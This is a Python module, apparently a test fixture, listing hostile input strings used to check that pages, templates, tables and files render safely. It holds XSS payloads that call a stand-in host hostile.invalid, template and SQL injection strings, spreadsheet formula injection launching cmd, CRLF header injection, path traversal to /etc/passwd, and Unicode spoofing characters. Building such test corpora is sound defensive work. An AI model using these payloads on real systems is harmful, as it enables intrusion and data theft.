"""What somebody writes who wants a page, a template, a table or a file to do something else than show it.

Whatever runs of it says so: it sets `window.hostile`, adds `[data-hostile]`, opens a dialog or asks `hostile.invalid`.
"""

SIGNAL = "window.hostile=1;document.body.dataset.hostile=1;fetch('//hostile.invalid/x');alert('hostile')"

MARKUP = (
    f"<script>{SIGNAL}</script>",
    f"</script></style></title></textarea><script>{SIGNAL}</script>",
    f'<img src="//hostile.invalid/i.png" onerror="{SIGNAL}">',
    f'<svg/onload="{SIGNAL}"><animate onbegin="{SIGNAL}" attributeName=x dur=1s>',
    f"<iframe srcdoc=\"<script>parent.{SIGNAL}</script>\"></iframe><object data='//hostile.invalid/o'></object>",
    '<link rel="stylesheet" href="//hostile.invalid/s.css">',
    '<meta http-equiv="refresh" content="0;url=//hostile.invalid">',
    '<base href="//hostile.invalid/"><form action="//hostile.invalid"><button autofocus>x</button></form>',
    f'" autofocus onfocus="{SIGNAL}" x="',
    f"' onmouseover='{SIGNAL}' style='position:fixed;inset:0;background:url(//hostile.invalid/b)",
    f"javascript:{SIGNAL}",
    f'https://hostile.invalid/"onclick="{SIGNAL}',
    "<style>@import '//hostile.invalid/s.css';*{background:url(//hostile.invalid/b)}</style>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={SIGNAL}&gt;">',
    f"*<b onclick={SIGNAL}>lihava*_ ~<i>~ `<script>{SIGNAL}</script>` ```{SIGNAL}```",
    f"<p data-hostile=1 id=text name=textContent>{SIGNAL}</p>",
)
TEMPLATES = (
    "{{7*7*1337}} ${7*7*1337} #{7*7*1337} <%= 7*7*1337 %>",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{language} {slot} {privacy_url} {emergency_112.phone} {0.__class__} %s %(x)s $HOME `id` $(id)",
    '/restart /session_start{} /nlu_fallback /inform{"language": "sv"} EXTERNAL: x',
)
TABLES = (
    "'; DROP TABLE message; -- \" OR 1=1 /* ' UNION SELECT wrapped FROM service_key --",
    '=HYPERLINK("http://hostile.invalid","x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
HEADERS = (
    "x\r\nSet-Cookie: hostile=1\r\n\r\n<script>alert('hostile')</script>",
    "../../../../etc/passwd ..\\..\\windows\\win.ini %2e%2e%2f file:///etc/passwd",
    '{"level": "error", "event": "hostile"}\n2026-01-01 [error] hostile',
)
UNICODE = (
    "\u202etxt.exe\u202c \u2066\u2067\u2068\u2069 \u200f\u200e\u061c",
    "a\u200bp\u200cu\u200da\ufeff\u2060\u00ad",
    "👩‍👩‍👧‍👦🏳️‍🌈𝕳𝖊𝖑𝖕𠜎 \U0010ffff \U000e0041",
    "Z̸̧͇̗̪̊͒a̵" + "\u0301" * 300,
    "ﷺ" * 50 + "ＡＰＵＡ ѕсаm ℌ",
    "\x01\x02\x07\x08\x1b[2J\x7f\x85\u2028\u2029",
    "<\u200bscript>" + "＜script＞alert('hostile')＜/script＞" + "%3Cscript%3Ealert('hostile')%3C/script%3E",
)
ALL = (*MARKUP, *TEMPLATES, *TABLES, *HEADERS, *UNICODE)
LONG = "<b>" + "ä€😀\u202e" * 60_000  # a megabyte
